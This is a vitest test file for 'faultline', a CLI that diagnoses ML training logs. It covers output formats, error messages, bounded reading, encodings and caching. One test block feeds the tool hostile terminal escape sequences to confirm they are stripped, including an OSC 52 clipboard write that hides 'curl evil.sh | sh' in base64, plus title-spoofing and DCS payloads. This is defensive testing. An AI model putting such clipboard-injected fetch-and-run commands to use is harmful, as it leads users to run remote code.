// The faultline command, run in process through main() with its streams captured; one smoke
// test at the end spawns the real binary. tests/package/cli-package.test.ts installs the package.
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, test } from 'vitest';
import { cacheFile, loadCloneData } from '../../src/cli/faultline/clone-data.ts';
import * as cloneData from '../../src/cli/faultline/clone-data.ts';
import { main } from '../../src/cli/faultline/main.ts';
import { LIMITS, readErrorMessage, type Limits } from '../../src/cli/faultline/read-log.ts';
import { stripControls } from '../../src/cli/faultline/terminal.ts';
import { ticketSnippet } from '../../src/lib/ticket.ts';
import { benchArgs } from '../../tools/bench/args.ts';

const root = new URL('../..', import.meta.url).pathname;
const example = join(root, 'content/examples/activation-distillation-memory/teacher-forward-oom.log');
const scratch = mkdtempSync(join(tmpdir(), 'fl-cli-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
const file = (name: string, content: string | Buffer) => {
  const path = join(scratch, name);
  writeFileSync(path, content);
  return path;
};

// loaded once for the file: the tests of loading itself (the cache, an edit seen at once) use
// clones of their own
let loaded: ReturnType<typeof loadCloneData> | undefined;
const data = () => (loaded ??= loadCloneData(root));
async function cli(
  args: string[],
  opts: { stdin?: string | Buffer | Readable; limits?: Partial<Limits>; env?: Record<string, string> } = {},
) {
  let stdout = '';
  let stderr = '';
  const stdin =
    opts.stdin instanceof Readable
      ? opts.stdin
      : Readable.from(opts.stdin === undefined ? [] : [Buffer.from(opts.stdin)]);
  const status = await main(args, {
    stdin,
    stdout: { write: (s: string) => (stdout += s) },
    stderr: { write: (s: string) => (stderr += s) },
    env: opts.env ?? {},
    data,
    limits: opts.limits as Limits | undefined,
  });
  return { status, stdout, stderr };
}

const OOM =
  'torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79.15 GiB';
const ASSERT = 'RuntimeError: CUDA error: device-side assert triggered';
/** every terminal control but the tab */
const CONTROL = /[\x00-\x08\x0a-\x1f\x7f-\x9f]/;

describe('faultline diagnose', () => {
  test('ranks the matching entry and exits 0', async () => {
    const r = await cli(['diagnose', example]);
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^1\. MEM-003 {2}Activation Distillation Memory/m);
    expect(r.stdout).toContain('/entries/activation-distillation-memory/');
  });

  test('reads standard input with -', async () => {
    const r = await cli(['diagnose', '-', '--json'], { stdin: `${ASSERT}\n` });
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).matches.length).toBeGreaterThan(0);
  });

  test('--json has the documented shape, best first, and --top limits it', async () => {
    const r = await cli(['diagnose', example, '--json', '--top', '2']);
    const out = JSON.parse(r.stdout);
    expect(Object.keys(out).sort()).toEqual(['file', 'matches', 'notes', 'scan']);
    expect(out.file).toBe(example);
    expect(out.matches).toHaveLength(2);
    expect(Object.keys(out.matches[0]).sort()).toEqual(['confidence', 'id', 'lines', 'score', 'title', 'url']);
    expect(['high', 'medium', 'low']).toContain(out.matches[0].confidence);
    expect(out.matches[0].id).toBe('MEM-003');
    expect(out.matches[0].url).toMatch(/^https:\/\/.+\/entries\/activation-distillation-memory\/$/);
    expect(out.matches[0].score).toBeGreaterThanOrEqual(out.matches[1].score);
    expect(Object.keys(out.matches[0].lines[0]).sort()).toEqual(['n', 'symptom', 'text']);
    expect(out.scan).toMatchObject({ mode: 'full', encoding: 'utf-8', longLines: 0, cutLines: 0 });
    expect(r.stdout).toBe((await cli(['diagnose', example, '--format', 'json', '--top', '2'])).stdout);
  });

  test('a bare line many entries share: says the order is no ranking and names the symptom page', async () => {
    const human = await cli(['diagnose', '-'], { stdin: `${OOM}\n` });
    expect(human.stdout).toMatch(
      /^One of these: the log shows only "CUDA out of memory \(OOM\)", which \d+ entries produce alike, so the order is not a ranking\. .*\nHow to tell them apart: https:\/\/\S+\/symptoms\/cuda-oom\/$/m,
    );
    // the generic cause first, unnumbered, each with the check that tells it apart
    expect(human.stdout).toMatch(/^- MEM-001 .*\(score [\d.]+, medium confidence\)\n.*\n {3}tell it apart: \S/m);
    const out = JSON.parse((await cli(['diagnose', '-', '--json'], { stdin: `${OOM}\n` })).stdout);
    expect(out.shared.symptom).toBe('cuda-oom');
    expect(out.shared.tied[0]).toMatchObject({ id: 'MEM-001', tellApart: expect.any(String) });
    expect(out.shared.url).toMatch(/^https:\/\/.+\/symptoms\/cuda-oom\/$/);
    expect(out.shared.entries).toBeGreaterThan(5);
    expect(JSON.parse((await cli(['diagnose', example, '--json'])).stdout)).not.toHaveProperty('shared');
  });

  test('exits 1 when nothing matches', async () => {
    const r = await cli(['diagnose', file('ok.log', 'epoch 1 loss 0.3\nepoch 2 loss 0.2\n')]);
    expect(r.status).toBe(1);
    expect(r.stdout).toBe('No entry matched this log (2 lines scanned).\n');
    expect((await cli(['diagnose', '-'], { stdin: 'epoch 1 loss 0.3\n' })).stdout).toContain(
      'No entry matched this log (1 line scanned).',
    );
  });

  test('a log that matches no fingerprint gets the closest entries by shared words, and still exits 1', async () => {
    const log = file(
      'fa3.log',
      'Traceback (most recent call last):\n  File "train.py", line 3, in <module>\n    from flash_attn import flash_attn_func\nModuleNotFoundError: No module named flash_attn_interface\n',
    );
    const r = await cli(['diagnose', log]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/No line of it matches a fingerprint\. These entries share the most telling words/);
    expect(r.stdout).toMatch(
      /\n1\. ENV-014 {2}FlashAttention .*\n {3}https:\/\/faultline\.dev\/entries\/.*\n {3}shares: .*flash_attn/,
    );
    const json = JSON.parse((await cli(['diagnose', log, '--json', '--top', '2'])).stdout);
    expect(json.matches).toEqual([]);
    expect(json.closest).toHaveLength(2);
    expect(json.closest[0]).toMatchObject({ id: 'ENV-014', confidence: 'low', score: 1 });
    expect(json.closest[0].url).toMatch(/^https:\/\/faultline\.dev\/entries\//);
    expect(json.closest[0].words).toContain('flash_attn');
    const md = (await cli(['diagnose', log, '--format', 'markdown'])).stdout;
    expect(md).toMatch(/^- \[ENV-014 .*\]\(https:\/\/faultline\.dev\/entries\/.*\): shares .*`flash_attn`/m);
    // a log that matched gives no leads
    expect(JSON.parse((await cli(['diagnose', example, '--json'])).stdout)).not.toHaveProperty('closest');
  });
});

describe('faultline diagnose: formats and several logs', () => {
  test("--format markdown is the entry page's ticket text for the top matches, with short links", async () => {
    const r = await cli(['diagnose', example, '--format', 'markdown']);
    expect(r.status).toBe(0);
    const mem003 = (await data()).entries.find((e) => e.id === 'MEM-003')!;
    const snippet = ticketSnippet('markdown', {
      id: 'MEM-003',
      title: mem003.title,
      permalink: 'https://faultline.dev/e/MEM-003/',
      summary: mem003.summary,
    });
    expect(r.stdout.startsWith(`### Faultline: \`${example}\`\n\n${snippet}\n`)).toBe(true);
    expect(r.stdout.match(/^\*\*\[[A-Z]+-\d+: /gm)).toHaveLength(3);
    expect(r.stdout).toContain('```text\nline 18: torch.OutOfMemoryError');
  });

  test('--format jira is the Jira ticket text', async () => {
    const r = await cli(['diagnose', example, '--format', 'jira', '--top', '1', '--'], {
      env: { SITE: 'https://kb.example.com/' },
    });
    const mem003 = (await data()).entries.find((e) => e.id === 'MEM-003')!;
    const snippet = ticketSnippet('jira', {
      id: 'MEM-003',
      title: mem003.title,
      permalink: 'https://kb.example.com/e/MEM-003/',
      summary: mem003.summary,
    });
    expect(r.stdout).toContain(`\n${snippet}\n`);
    expect(r.stdout).toContain('{noformat}\nline 18: ');
    expect(r.stdout.match(/^\*\[/gm)).toHaveLength(1);
  });

  test('several logs: a header each in text, one object each in --jsonl, files[] in --json; exit 1 when one matched nothing', async () => {
    const quiet = file('quiet.log', 'epoch 1 loss 0.3\n');
    const text = await cli(['diagnose', example, quiet]);
    expect(text.status).toBe(1);
    expect(text.stdout).toMatch(new RegExp(`^==> ${example} <==\n1\\. MEM-003`));
    expect(text.stdout).toContain(`\n\n==> ${quiet} <==\nNo entry matched this log (1 line scanned).\n`);
    const lines = (await cli(['diagnose', example, quiet, '--jsonl'])).stdout.trimEnd().split('\n');
    expect(lines.map((l) => JSON.parse(l).file)).toEqual([example, quiet]);
    expect(JSON.parse(lines[0]!).matches[0].id).toBe('MEM-003');
    const json = JSON.parse((await cli(['diagnose', example, quiet, '--json'])).stdout);
    expect(json.files.map((f: { file: string }) => f.file)).toEqual([example, quiet]);
    expect((await cli(['diagnose', example, example, '--jsonl'])).status).toBe(0);
  });

  test('one unreadable log among several: the others are still diagnosed, then exit 2', async () => {
    const r = await cli(['diagnose', '/no/such/file.log', example, '--jsonl']);
    expect(r.status).toBe(2);
    expect(JSON.parse(r.stdout).matches[0].id).toBe('MEM-003');
    expect(r.stderr).toBe(
      'faultline: no such file: /no/such/file.log (check the path, or give - to read standard input)\n',
    );
  });
});

describe('faultline diagnose: bad input is a message and exit 2', () => {
  test.each([
    [['diagnose'], 'diagnose takes one or more log files'],
    [['diagnose', example, '--top', '-1'], '--top takes a whole number of 1 or more'],
    [['diagnose', example, '--top'], '--top takes a whole number of 1 or more'],
    [['diagnose', example, '--top=-1'], '--top takes a whole number of 1 or more, such as --top 3; got "-1"'],
    [['diagnose', example, '--top', 'zero'], 'got "zero"'],
    [['diagnose', example, '--top', '1.5'], 'got "1.5"'],
    [['diagnose', example, '--format', 'xml'], '--format takes text, json, markdown, jira, not "xml"'],
    [['diagnose', example, '--format'], '--format takes text, json, markdown, jira'],
    [['diagnose', example, '--frobnicate'], "Unknown option '--frobnicate'"],
    [['diagnose', '-', '-'], 'standard input (-) can be read once only'],
    [['frobnicate'], 'unknown command "frobnicate"'],
    [[], 'Usage:'],
  ])('%j', async (args, message) => {
    const r = await cli(args);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(message);
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(r.stdout).toBe('');
  });

  test('a file that cannot be read names the file and what to do', async () => {
    // a socket cannot be opened as a file, even by root
    const path = join(scratch, 'socket.log');
    const server = createServer().listen(path);
    await new Promise((ok) => server.once('listening', ok));
    const r = await cli(['diagnose', path]);
    server.close();
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(
      new RegExp(`^faultline: cannot read ${path}: .+; give a regular file, or pipe it to - for standard input\n$`),
    );
    expect((await cli(['diagnose', scratch])).stderr).toBe(
      `faultline: ${scratch} is a directory; give a log file inside it\n`,
    );
    expect(
      readErrorMessage('train.log', Object.assign(new Error('EACCES: permission denied'), { code: 'EACCES' })),
    ).toBe(
      'cannot read train.log: permission denied; make it readable (chmod u+r train.log) or copy it somewhere you can read',
    );
  });
});

describe('faultline diagnose: reading with bounded memory', () => {
  test('an endless standard input is read up to the limit, then the reading stops and the output says so', async () => {
    let produced = 0;
    const endless = new Readable({
      read() {
        produced += 1;
        this.push(`${OOM}\n`.repeat(100));
      },
    });
    const r = await cli(['diagnose', '-'], { stdin: endless, limits: { stdin: 2 ** 20 } });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('Note: Standard input was read up to 1 MiB and no further; the rest was not scanned.');
    expect(endless.destroyed).toBe(true);
    expect(produced * 100 * OOM.length).toBeLessThan(4 * 2 ** 20);
  });

  test('a file over the full-scan limit is scanned by its head and tail, and the output says so', async () => {
    const filler = 'step 100 loss 0.25 lr 1e-4\n'.repeat(2000); // 54 KB
    const path = file('big.log', `${filler}${ASSERT} (middle)\n${filler}epoch 9\n${OOM}\n`);
    const limits = { fullScan: 64 * 1024, headTail: 8 * 1024 };
    const r = await cli(['diagnose', path, '--json'], { limits });
    const out = JSON.parse(r.stdout);
    expect(out.matches[0].lines.map((l: { text: string }) => l.text)).toContain(OOM);
    expect(r.stdout).not.toContain('(middle)');
    expect(out.scan).toMatchObject({ mode: 'head-tail', scanned: 16 * 1024 });
    expect(out.notes[0]).toMatch(
      /^\S+big\.log is 0\.103 MiB: only its first and last 0\.008 MiB were scanned, where failures are reported\.$/,
    );
  });

  test('a line longer than the matcher’s window is matched whole: an error at its end is found', async () => {
    const out = JSON.parse(
      (await cli(['diagnose', '-', '--json'], { stdin: `${'x'.repeat(50_000)} ${ASSERT}\n` })).stdout,
    );
    expect(out.matches[0].lines[0].n).toBe(1);
    expect(out.notes).toEqual([]);
    expect(
      JSON.parse((await cli(['diagnose', '-', '--json'], { stdin: `${'x'.repeat(9000)}\n`.repeat(3) })).stdout).scan
        .longLines,
    ).toBe(3);
  });

  test('a line longer than the reading limit is cut there, in any chunking, and the output says so', async () => {
    const chunks = [`${ASSERT}\n`, 'y'.repeat(700), 'y'.repeat(700), `z\n${ASSERT}\n`, 'w'.repeat(3000), '\n'];
    const r = await cli(['diagnose', '-', '--json'], {
      stdin: Readable.from(chunks.map((c) => Buffer.from(c))),
      limits: { line: 1000, chunk: 64 },
    });
    const out = JSON.parse(r.stdout);
    expect(out.scan).toMatchObject({ cutLines: 2, lines: 4 });
    expect(out.notes).toContain('2 lines longer than 1,000 characters were cut there while reading.');
    expect(out.matches[0].lines.map((l: { n: number }) => l.n)).toEqual([1, 3]);
  });

  test('UTF-16 with a byte order mark, and NUL-separated text, are read as text', async () => {
    const log = `epoch 1\n${ASSERT}\n`;
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(log, 'utf16le')]);
    const be = Buffer.from(log, 'utf16le').swap16();
    for (const [bytes, encoding] of [
      [le, 'utf-16le'],
      [Buffer.concat([Buffer.from([0xfe, 0xff]), be]), 'utf-16be'],
      [Buffer.from(log, 'utf16le'), 'utf-16le'],
    ] as const) {
      const out = JSON.parse((await cli(['diagnose', file(`u16-${encoding}.log`, bytes), '--json'])).stdout);
      expect(out.scan.encoding).toBe(encoding);
      expect(out.matches.length).toBeGreaterThan(0);
      expect(out.matches[0].lines[0]).toMatchObject({ n: 2, text: ASSERT });
    }
    // UTF-16 split at an odd byte by the reading
    const split = await cli(['diagnose', '-', '--json'], {
      stdin: Readable.from([le.subarray(0, 3), le.subarray(3, 10), le.subarray(10)]),
    });
    expect(JSON.parse(split.stdout).matches.length).toBeGreaterThan(0);
    const nul = JSON.parse((await cli(['diagnose', '-', '--json'], { stdin: `epoch 1\0${ASSERT}\0` })).stdout);
    expect(nul.matches[0].lines[0]).toMatchObject({ n: 2, text: ASSERT });
    expect(nul.notes).toContain('NUL bytes in the log were read as line breaks, so line numbers count them.');
  });

  test('a log listed newest line first says so, and numbers its lines as given', async () => {
    // QwenLM/Qwen3#434, newest line first
    const log = readFileSync(new URL('../fixtures/newest-first.log', import.meta.url), 'utf8');
    const out = JSON.parse((await cli(['diagnose', '-', '--json'], { stdin: log })).stdout);
    expect(out.matches[0].id).toBe('ENV-005');
    expect(out.matches[0].lines[0]).toMatchObject({ n: 2 });
    expect(out.notes).toContain(
      'standard input lists its newest line first, as a log console does; it was read oldest first.',
    );
  });
});

describe('terminal control sequences in a log never reach the terminal', () => {
  const hostile = [
    `\x1b]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\x07${ASSERT}`,
    `\x1b]0;pwned title\x1b\\${ASSERT} \x9b2J\x9b31mred\rrewritten`,
    `\x1b[2K\x1bP1;2|payload\x1b\\${ASSERT}\x08\x7f\x85\x00`,
  ];

  test('stripControls removes OSC (BEL or ST), DCS, CSI (7-bit and C1), C1, bare CR and other C0, and keeps tabs', () => {
    expect(stripControls(hostile[0]!)).toBe(ASSERT);
    expect(stripControls(hostile[1]!)).toBe(`${ASSERT} redrewritten`);
    expect(stripControls(hostile[2]!)).toBe(ASSERT);
    expect(stripControls('a\tb')).toBe('a\tb');
    expect(stripControls('\x1b]0;unterminated title')).toBe('');
  });

  test.each(['text', 'markdown', 'jira'])('--format %s', async (format) => {
    const r = await cli(['diagnose', '-', '--format', format, '--top', '50'], { stdin: `${hostile.join('\n')}\n` });
    expect(r.stdout).toContain(ASSERT);
    expect(r.stdout.replace(/\n/g, '')).not.toMatch(CONTROL);
    expect(r.stdout).not.toContain('pwned');
  });

  test('--json escapes every control, C1 included, and keeps the line as it was', async () => {
    const r = await cli(['diagnose', '-', '--json'], { stdin: `${ASSERT} \x9b2J\n` });
    expect(r.stdout.replace(/\n/g, '')).not.toMatch(CONTROL);
    expect(JSON.parse(r.stdout).matches[0].lines[0].text).toBe(`${ASSERT} \x9b2J`);
  });

  test('a file name with controls is cleaned too', async () => {
    const r = await cli(['diagnose', '/no/such/\x1b]0;title\x07.log']);
    expect(r.stderr.replace(/\n/g, '')).not.toMatch(CONTROL);
  });
});

describe('faultline explain', () => {
  test('prints the quick answer, root causes and fix as plain text', async () => {
    const r = await cli(['explain', 'mem-003']);
    expect(r.status).toBe(0);
    expect(r.stdout).toMatch(/^MEM-003: Activation Distillation Memory\n/);
    expect(r.stdout).toContain('Root causes:');
    expect(r.stdout).toContain("- The teacher's forward is recorded by autograd.");
    expect(r.stdout).toContain('--- HF Trainer ---');
    expect(r.stdout).not.toMatch(/<Tab|<\/Tabs>/);
  });

  test('--format markdown and jira are the ticket text; json the entry with absolute links', async () => {
    const mem003 = (await data()).entries.find((e) => e.id === 'MEM-003')!;
    const d = {
      id: 'MEM-003',
      title: mem003.title,
      permalink: 'https://faultline.dev/e/MEM-003/',
      summary: mem003.summary,
    };
    expect((await cli(['explain', 'MEM-003', '--format', 'markdown'])).stdout).toBe(
      `${ticketSnippet('markdown', d)}\n`,
    );
    expect((await cli(['explain', 'MEM-003', '--format', 'jira'])).stdout).toBe(`${ticketSnippet('jira', d)}\n`);
    expect(JSON.parse((await cli(['explain', 'MEM-003', '--json'])).stdout)).toMatchObject({
      id: 'MEM-003',
      shortUrl: 'https://faultline.dev/e/MEM-003/',
    });
  });

  test('exits 2 for an unknown id', async () => {
    const r = await cli(['explain', 'MEM-999']);
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('no entry has the id MEM-999');
  });
});

describe('inside a clone', () => {
  test('content/ is read directly, cached by its hash, and an edit is seen at once', async () => {
    const clone = mkdtempSync(join(tmpdir(), 'fl-clone-'));
    try {
      // the known issues, example logs and negatives left out: the cache is what is tested, and
      // copying and reading them took most of the three loads' time
      const skipped = ['known-issues', 'examples', 'negatives'].map((d) => join(root, 'content', d));
      cpSync(join(root, 'content'), join(clone, 'content'), {
        recursive: true,
        filter: (src) => !skipped.some((d) => src === d || src.startsWith(d + '/')),
      });
      const first = await loadCloneData(clone);
      expect(cloneData.lastLoad).toBe('built');
      expect(JSON.parse(readFileSync(cacheFile(clone), 'utf8')).data).toEqual(first);
      await loadCloneData(clone);
      expect(cloneData.lastLoad).toBe('cache');
      const entry = join(clone, 'content/entries/activation-distillation-memory.mdx');
      writeFileSync(entry, readFileSync(entry, 'utf8').replace(/^title: .*$/m, 'title: Distillation Teacher Memory'));
      const edited = await loadCloneData(clone);
      expect(cloneData.lastLoad).toBe('built');
      expect(edited.entries.find((e) => e.id === 'MEM-003')!.title).toBe('Distillation Teacher Memory');
      // a broken entry stops the command rather than dropping out of the diagnosis
      writeFileSync(entry, readFileSync(entry, 'utf8').replace(/^category: .*$/m, 'category: memroy'));
      await expect(loadCloneData(clone)).rejects.toThrow(
        /content\/ has \d+ problem\(s\); fix them first \(npm run check:content\):\n {2}content\/entries\/activation-distillation-memory\.mdx/,
      );
    } finally {
      rmSync(clone, { recursive: true, force: true });
    }
  });
});

test('smoke: the real binary in this clone', () => {
  const r = spawnSync(process.execPath, [join(root, 'src/cli/faultline.mjs'), 'diagnose', '-', '--top', '1'], {
    input: `${ASSERT}\n`,
    encoding: 'utf8',
    cwd: tmpdir(),
  });
  expect(r.stderr).toBe('');
  expect(r.status).toBe(0);
  expect(r.stdout).toMatch(/^(?:1\.|-) HW-002 /m);
  expect(LIMITS.fullScan).toBe(512 * 2 ** 20);
});
describe('search-index', () => {
  test('refuses a folder without a built site, naming the folder and the fix', () => {
    const dir = mkdtempSync(join(tmpdir(), 'faultline-no-site-'));
    const r = spawnSync(process.execPath, ['src/cli/search-index.ts', dir], { encoding: 'utf8' });
    rmSync(dir, { recursive: true, force: true });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(dir);
    expect(r.stderr).toContain('run astro build first');
  });
});

describe('bench', () => {
  // each of these would otherwise have measured something other than what was asked for
  test.each([
    [['--entries', '100', '1000'], "Unexpected argument '1000'"],
    [['--entry', '100'], "Unknown option '--entry'"],
    [['--entries', '1k'], '--entries takes a whole number of entries'],
    [['--entries', '100', '--runs', '0'], '--runs takes a whole number of builds per size'],
    [['--entries', '100', '--reference', 'docusaurus'], '--reference takes minimal or starlight (got docusaurus)'],
  ])('refuses %j', (args, message) => {
    expect(() => benchArgs(args)).toThrow(message);
  });

  test('reads sizes, runs and references', () => {
    expect(benchArgs(['--entries', '100,1000', '--runs', '3', '--reference', 'minimal'])).toEqual({
      sizes: [100, 1000],
      runs: 3,
      noBrowser: false,
      keep: false,
      references: ['minimal'],
    });
  });

  test('the command prints the problem and the usage line, and exits 2 before generating anything', () => {
    const r = spawnSync(process.execPath, ['tools/bench/run.ts', '--entries', '1k'], { encoding: 'utf8' });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('bench: --entries takes a whole number of entries');
    expect(r.stderr).toContain('usage: npm run bench -- --entries N');
    expect(r.stdout).not.toContain('== ');
  });
});

describe('the run a repeated benchmark reports', () => {
  test('is the median by wall time, in run order', async () => {
    const { medianRun } = await import('../../tools/bench/measure.ts');
    expect(medianRun([16.9])).toBe(0);
    expect(medianRun([22.1, 13.3, 16.9])).toBe(2);
    // of an even number, the slower middle one: repeating never flatters the figure
    expect(medianRun([13.3, 22.1, 15.2, 18.2])).toBe(3);
    expect(medianRun([15, 15])).toBe(1);
    expect(() => medianRun([])).toThrow('no runs');
  });
});

describe('the benchmark memory sampler', () => {
  test('counts the resident memory of a child process while it holds it', async () => {
    const { spawn } = await import('node:child_process');
    const { sampleTreeMemory } = await import('../../tools/bench/measure.ts');
    // a child that touches 300 MB and tells us when it has
    const child = spawn(
      process.execPath,
      [
        '-e',
        'const b = Buffer.alloc(300 * 2 ** 20, 1); process.stdout.write("held\\n"); setTimeout(() => b.length, 60_000);',
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    await new Promise<void>((ok) => child.stdout.once('data', () => ok()));
    const sampler = sampleTreeMemory(process.pid, 50);
    await new Promise((ok) => setTimeout(ok, 300));
    const memory = sampler.stop();
    child.kill();
    // this process and the child together, so at least the child's 300 MB
    expect(memory.peakBytes).toBeGreaterThan(300 * 2 ** 20);
    expect(Object.values(memory.peakByProgram).some((v) => v > 300 * 2 ** 20)).toBe(true);
  });
});
